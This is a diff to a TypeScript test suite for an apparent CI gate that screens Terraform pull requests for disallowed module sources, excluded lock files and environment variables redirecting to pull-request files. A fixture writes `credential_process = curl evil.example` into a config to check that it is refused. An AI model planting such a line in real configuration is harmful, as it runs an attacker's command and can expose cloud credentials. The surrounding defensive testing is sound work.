@@ -6,12 +6,18 @@ import { execute } from '../../src/machine/execute.ts';
 import { openAt } from '../../src/machine/find-repository.ts';
 import { alarms } from '../../src/machine/system-clock.ts';
 import { historyOf, historyOnServer, reachIn } from '../../src/trust/reach.ts';
-import type { JudgedBySources, KnownLater } from '../../src/policy/systems/allowed-sources.ts';
+import type {
+  JudgedBySources,
+  KnownLater,
+  PlaceOfFiles,
+} from '../../src/policy/systems/allowed-sources.ts';
+import { readCommitId } from '../../src/model/commit-id.ts';
+import { asTrusted } from '../../src/trust/tree.ts';
 import { emptyDirectory } from '../support/empty-directory.ts';
 import { describe, expect, test } from '../support/jest.ts';
 import { openRepository } from '../support/repository.ts';
 import type { Layout } from '../support/tree.ts';
-import { proposedTree } from '../support/trusted-tree.ts';
+import { filesOfCommit, proposedTree } from '../support/trusted-tree.ts';
 
 const ports = { execute, environment: { PATH: process.env['PATH'] }, alarms };
 const FILE = 'gate/allowed.json';
@@ -41,6 +47,7 @@ async function judgeFiles(
   root: string,
   more: Partial<SourcesSettings> = {},
   environment: Readonly<Record<string, string>> = {},
+  place: Partial<PlaceOfFiles> = {},
 ) {
   const jobTree = proposedTree(root);
   const opened = await openAllowedSources(
@@ -51,13 +58,28 @@ async function judgeFiles(
       jobTree,
       today: '2026-11-29',
       program: undefined,
-      repositoryAddress: 'https://github.com/acme/infra',
+      repositoryAddresses: ['https://github.com/acme/infra'],
+      isUploaded: false,
+      plansWithJob: true,
       ...more,
     },
     { ...ports, environment: { ...ports.environment, ...environment } },
   );
-  if ('problems' in opened) return opened.problems.map(({ message }) => message);
-  return opened.judge({ root, workingDirectory: '' });
+  if ('problems' in opened) {
+    return opened.problems.map(({ where, message }) => `${where} ${message}`);
+  }
+  return opened.judge({ root, workingDirectory: '', ...place });
+}
+
+/** A job whose default branch is at a commit of the clone. */
+function treeHere(root: string, commit: string): SourcesSettings['jobTree'] {
+  const repository = openAt(root);
+  const id = readCommitId(commit);
+  if (repository === undefined || id === undefined) throw new Error('no repository');
+  return proposedTree(root, {
+    trusted: async () => asTrusted(filesOfCommit(root, id)),
+    trustedCommit: async () => ({ commit: id, repository }),
+  });
 }
 
 describe('the files of a job', () => {
@@ -100,6 +122,49 @@ describe('the files of a job', () => {
     expect(await judge(root)).toEqual([]);
     expect((await judge(root, { commit })).join()).toContain('hashicorp/leak');
     await expect(judge(root, { commit: 'f'.repeat(40) })).rejects.toThrow('git does not have');
+  });
+});
+
+describe('a lock file proves a version', () => {
+  const list = JSON.stringify({ providers: [{ source: 'hashicorp/aws', version: '5.0.0' }] });
+  const judged = (rules: string, more: Partial<SourcesSettings> = {}, files: Layout = {}) => {
+    const locked = { '.terraform.lock.hcl': LOCK, '.terraformignore': rules, [FILE]: list };
+    const { root } = makeClone({ ...locked, ...files });
+    return judge(root, more);
+  };
+
+  test.each(['', '*.tfvars\n', '.terraform.lock.hcl\n!.terraform.lock.hcl\n', 'net/*.hcl\n'])(
+    'where it is sent by %j',
+    async (rules) => {
+      expect(await judged(rules, { isUploaded: true })).toEqual([]);
+    },
+  );
+
+  test.each([
+    '.terraform.lock.hcl\n',
+    '*.hcl\n',
+    '*.lock.*\n',
+    '/.terraform.*\n',
+    '*.lock.hcl\u0085\n',
+  ])('and not where %j keeps it out of the upload', async (rules) => {
+    const said = (await judged(rules, { isUploaded: true })).join();
+    expect(said).toContain('`.terraformignore` keeps the lock file out of the upload');
+    // Nothing is sent of what a program here, or version control, plans.
+    expect(await judged(rules, { isUploaded: false })).toEqual([]);
+  });
+
+  test('of the directory that is uploaded, by the rules there alone', async () => {
+    const layout = { 'net/.terraform.lock.hcl': LOCK, 'net/main.tf': AWS };
+    const { root } = makeClone({ ...layout, '.terraformignore': '*.hcl\n', [FILE]: list });
+    expect(await judge(root, { isUploaded: true }, {}, { root: join(root, 'net') })).toEqual([]);
+    const inside = { root, workingDirectory: 'net' };
+    expect((await judge(root, { isUploaded: true }, {}, inside)).join()).toContain('out of the');
+  });
+
+  test('and nothing is judged where the rules cannot be read', async () => {
+    const rules = { '.terraformignore/x': '' };
+    const { root } = makeClone({ '.terraform.lock.hcl': LOCK, [FILE]: list, ...rules });
+    await expect(judge(root, { isUploaded: true })).rejects.toThrow('nothing is packed');
   });
 });
 
@@ -173,13 +238,43 @@ describe('what the environment tells the program', () => {
     },
   );
 
-  test('a CLI configuration is found through a link as well', async () => {
-    const { root } = makeClone({ 'gate/cli.tfrc': '' });
+  test.each<[name: string, value: (root: string) => string]>([
+    ['TF_CLI_CONFIG_FILE', (root) => join(root, 'gate/config')],
+    ['TERRAFORM_CONFIG', () => 'gate/config'],
+    ['TF_PLUGIN_CACHE_DIR', (root) => join(root, '.cache')],
+    ['AWS_CONFIG_FILE', (root) => join(root, 'gate/config')],
+    ['AWS_SHARED_CREDENTIALS_FILE', () => './gate/config'],
+    ['GOOGLE_APPLICATION_CREDENTIALS', (root) => join(root, 'gate/config')],
+    ['ARM_CLIENT_CERTIFICATE_PATH', () => 'gate/config'],
+    ['KUBECONFIG', (root) => `/nowhere:${root}/gate/config`],
+    ['XDG_CONFIG_HOME', (root) => join(root, 'gate')],
+    ['GIT_CONFIG_GLOBAL', (root) => join(root, 'gate/config')],
+    ['HOME', (root) => root],
+  ])('%s that leads into the files of a pull request is refused', async (name, value) => {
+    const { clone, root } = makeClone({ 'gate/config': '' });
+    clone.commit({ 'gate/config': 'credential_process = curl evil.example\n' });
     const link = join(emptyDirectory(), 'link');
     symlinkSync(root, link);
-    const TF_CLI_CONFIG_FILE = join(link, 'gate/cli.tfrc');
-    expect((await judge(root, {}, { TF_CLI_CONFIG_FILE })).join()).toContain('`gate/cli.tfrc`');
+    for (const place of [root, link]) {
+      const said = await judge(root, {}, { [name]: value(place) });
+      expect(said).toEqual([expect.stringMatching(new RegExp(`^${name} leads to "`))]);
+    }
+    // A service, and a program that is started here, have environments of their own.
+    expect(await judge(root, { plansWithJob: false }, { [name]: value(root) })).toEqual([]);
   });
+
+  test('files that are as on the default branch, or outside, lead nowhere', async () => {
+    const { clone, root } = makeClone({ 'gate/config': '' });
+    clone.commit({ 'gate/other': '' });
+    const variables = { AWS_CONFIG_FILE: join(root, 'gate/config'), XDG_CONFIG_HOME: '/nowhere' };
+    expect(await judge(root, {}, variables)).toEqual([]);
+  });
+});
+
+test('what is wrong with the list names its file', async () => {
+  const { root } = makeClone({ [FILE]: '{' });
+  const said = expect.stringMatching(`^${FILE}: allowed-sources is not a JSON object`);
+  expect(await judge(root)).toEqual([said]);
 });
 
 describe('a commit in the source of a module of the repository under judgement', () => {
@@ -208,6 +303,82 @@ describe('a commit in the source of a module of the repository under judgement',
     remote.git('clone', '-q', '--depth=1', `file://${remote.root}`, root);
     openRepository(root).write({ 'main.tf': call(head) });
     expect((await judge(root)).join()).toContain('it is not known whether the default branch');
+  });
+});
+
+describe('the repository under judgement', () => {
+  const evil = (name: string, commit: string) =>
+    `module "m" {\n  source = "git::${name}//m?ref=${commit}"\n}\n`;
+  /** No server answers. */
+  const UNREACHED = { HTTPS_PROXY: 'http://127.0.0.1:9' };
+  const GIT = 'ssh://git@git.acme.example/acme/infra.git';
+  const names = JSON.stringify({
+    providers: ['hashicorp/aws'],
+    modules: [
+      'git.acme.example/acme/*',
+      'git.acme.example/scm/acme/*',
+      'git.acme.example:8443/acme/*',
+      'git.acme.example:2222/acme/*',
+      'other.example/acme/*',
+      'other.example/team/*',
+      'other.example/git/acme/infra/.git',
+    ],
+  });
+
+  test.each<[source: string, addresses: string[], origin: string]>([
+    ['https://git.acme.example/acme/infra.git', [], GIT],
+    ['https://git.acme.example/acme/infra.git', [], 'git@git.acme.example:acme/infra'],
+    ['https://git.acme.example:8443/acme/infra.git', [], GIT],
+    ['ssh://git@git.acme.example:2222/acme/infra.git', [], 'https://git.acme.example/acme/infra/'],
+    ['https://git.acme.example/acme/infra.git', [], 'https://Bot@Git.Acme.Example/Acme/Infra.git/'],
+    ['https://git.acme.example/acme/infra.git', ['https://git.acme.example/acme/infra'], '/srv/x'],
+    ['https://git.acme.example/acme/infra.git', [], 'work:acme/infra.git'],
+    ['https://git.acme.example/acme/infra.git', [], '/var/mirror/acme/infra.git'],
+    [
+      'https://git.acme.example/scm/acme/infra.git',
+      [],
+      'ssh://git@git.acme.example:7999/acme/infra.git',
+    ],
+    ['https://other.example/acme/infra.git', ['https://git.acme.example/acme/infra'], GIT],
+    ['https://other.example/git/acme/infra/.git', ['https://git.acme.example/acme/infra'], GIT],
+    // It was renamed, so the commit alone says which repository this is.
+    ['https://other.example/team/renamed.git', ['https://git.acme.example/acme/infra'], GIT],
+  ])(
+    'is known as %s where the job says %j, and its clone %s',
+    async (source, addresses, origin) => {
+      const { clone, root, head } = makeClone({ [FILE]: names });
+      const own = clone.commit({ 'm/main.tf': LEAK });
+      clone.write({ 'main.tf': evil(source, own) });
+      // Set after the clone, because git would ask it for what the clone lacks.
+      const here = { jobTree: treeHere(root, head), repositoryAddresses: addresses };
+      clone.git('remote', 'set-url', 'origin', origin);
+      expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
+      clone.write({ 'main.tf': evil(source, head) });
+      expect(await judge(root, here, UNREACHED)).toEqual([]);
+    },
+  );
+
+  test('is known by the address of any remote', async () => {
+    const { clone, root, head } = makeClone({ [FILE]: names });
+    const own = clone.commit({ 'm/main.tf': LEAK });
+    clone.write({ 'main.tf': evil('https://git.acme.example/acme/infra.git', own) });
+    clone.git('remote', 'add', 'upstream', GIT);
+    const here = { jobTree: treeHere(root, head), repositoryAddresses: [] };
+    expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
+  });
+
+  test('is known by its path where the clone does not have the commit', async () => {
+    const { clone, root, head } = makeClone({ [FILE]: names });
+    clone.write({ 'main.tf': evil('https://other.example/acme/infra.git', 'f'.repeat(40)) });
+    const here = { jobTree: treeHere(root, head), repositoryAddresses: [GIT] };
+    expect((await judge(root, here, UNREACHED)).join()).toContain('does not have the commit');
+  });
+
+  test('is not every other one whose server does not answer', async () => {
+    const { clone, root, head } = makeClone({ [FILE]: names });
+    clone.write({ 'main.tf': evil('https://other.example/acme/vpc.git', 'f'.repeat(40)) });
+    const here = { jobTree: treeHere(root, head), repositoryAddresses: [GIT] };
+    expect(await judge(root, here, UNREACHED)).toEqual([]);
   });
 });
 
